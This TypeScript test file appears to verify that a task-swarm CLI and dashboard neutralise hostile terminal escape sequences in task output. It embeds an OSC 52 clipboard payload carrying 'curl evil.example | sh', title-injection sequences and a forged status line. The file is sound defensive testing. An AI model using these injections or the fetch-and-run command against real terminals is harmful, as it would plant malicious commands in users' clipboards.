/**
 * Finding 4 as a person meets it: our commands and the dashboard running in a
 * real terminal (a tmux pane of the test's own, with set-clipboard on so that
 * OSC 52 would create a paste buffer, and pane_title recording OSC 0/2),
 * showing tasks whose output and text try to retitle the terminal and write
 * its clipboard. Afterwards the title is the one it was and no buffer exists.
 */
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import type { Swarm } from "../../client/index.js";
import { CLI } from "../helpers/cli.js";
import { startTestSwarm, type TestSwarm } from "../helpers/swarm.js";
import { lineWith, TestTerminal } from "../tui/terminal.js";
import { printBytesTask } from "./terminal-support.js";
import { clientInternals } from "../../client/index.js";

const ESC = "\x1b";
const BEL = "\x07";
const CLIPBOARD = `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}${BEL}`;
const TITLE = `${ESC}${ESC}[m]0;pwned-title${BEL}${ESC}]2;pwned-title${BEL}`;
const FORGED = `\n${ESC}[1A${ESC}[2K\rtask forged: completed · exit 0 · agent alpha`;

describe("a real terminal showing hostile task output and text", { timeout: 180_000 }, () => {
  let swarm: TestSwarm;
  let client: Swarm;
  let term: TestTerminal;
  let title: string;
  beforeAll(async () => {
    swarm = await startTestSwarm();
    client = await swarm.connect();
    term = TestTerminal.start({ width: 160, height: 48 });
    term.tmux(["set", "-g", "set-clipboard", "on"]);
    title = term.info("#{pane_title}");
  });
  afterAll(async () => {
    term?.close();
    await swarm?.destroy();
  });

  const cli = (args: string) => `node ${CLI} --home ${swarm.home} ${args}`;
  const buffers = () => term.tmux(["list-buffers", "-F", "#{buffer_name}: #{buffer_sample}"]).trim();
  const prompt = async (what: string) => term.waitFor(/^DONE-MARK\s*$/m, { what, timeoutMs: 60_000 });

  function expectUntouched(): void {
    expect(term.info("#{pane_title}")).toBe(title);
    expect(buffers()).toBe("");
  }

  it("result of a failed task: its output cannot retitle the terminal, write the clipboard or pass for the status line", async () => {
    const raw = Buffer.from(`${TITLE}${CLIPBOARD}${FORGED}`, "utf8");
    const submitted = await client.submit({ task: printBytesTask(raw, 3), agent: "alpha" });
    await submitted.result();
    term.run(`clear; ${cli(`result ${submitted.id}`)}; echo DONE-MARK`);
    const screen = await prompt("result to finish");
    expect(lineWith(screen, `task ${submitted.id}:`)).toMatch(/failed · exit 3/);
    expect(screen.indexOf(`task ${submitted.id}: failed`)).toBeLessThan(screen.indexOf("task forged: completed"));
    expectUntouched();
  });

  it("status --watch of a task whose text carries OSC 52 and a title change", async () => {
    const submitted = await client.submit({ task: `sleep 60 # ${CLIPBOARD}${TITLE}`, agent: "beta" });
    try {
      await waitRunning(client, submitted.id);
      term.run(`clear; ${cli("status --watch --interval 0.3")}`);
      await term.waitFor(new RegExp(`${submitted.id} sleep 60 #`), { what: "the task in status --watch", timeoutMs: 60_000 });
      term.keys("C-c");
      term.run("echo DONE-MARK");
      await prompt("status --watch to stop");
      expectUntouched();
    } finally {
      await client.client.cancel(submitted.id);
    }
  });

  it("the dashboard showing such a task's text, and events carrying controls", async () => {
    const submitted = await client.submit({ task: `sleep 60 # ${CLIPBOARD}${TITLE}`, agent: "beta" });
    onTestFinished(() => void client.client.cancel(submitted.id).catch(() => undefined));
    await waitRunning(client, submitted.id);
    await client.client.events.publish("task.failed", { taskId: "t-hostile", agent: "alpha", message: `{red-fg}boom${CLIPBOARD}${TITLE}${ESC}[8mhidden` });
    term.run(`clear; ${cli("tui")}`);
    const row = (s: string) => lineWith(s, /│beta-1\s/);
    const screen = await term.waitFor((s) => row(s).includes(`${submitted.id} sleep 60 #`) && s.includes("t-hostile"), {
      what: "the task and the event on the dashboard",
      timeoutMs: 90_000,
    });
    // blessed's own markup in someone else's text is shown as text, not applied.
    expect(lineWith(screen, "t-hostile")).toContain("{red-fg}boom");
    // SGR 8 (conceal) in an event would hide the rest of its line, and blessed passes SGR through.
    expect(lineWith(term.screen({ escapes: true }), "t-hostile")).not.toMatch(/\x1b\[[0-9;]*\b8[;m]/);
    term.keys("q");
    // Typed only once the shell is back: keys sent while the dashboard is still closing go to the dashboard (one CI
    // run on a loaded machine lost the echo that way, and the test timed out on a bare prompt).
    await term.waitFor((s) => /^\$\s*$/m.test(s) && !s.includes("t-hostile"), { what: "the shell prompt" });
    term.run("echo DONE-MARK");
    await prompt("the dashboard to quit");
    expectUntouched();
  });
});

async function waitRunning(client: Swarm, id: string): Promise<void> {
  const deadline = Date.now() + 30_000;
  while ((await clientInternals(client.client).ledger.get(id))?.status !== "running") {
    if (Date.now() > deadline) throw new Error(`task ${id} did not start`);
    await new Promise((r) => setTimeout(r, 50));
  }
}
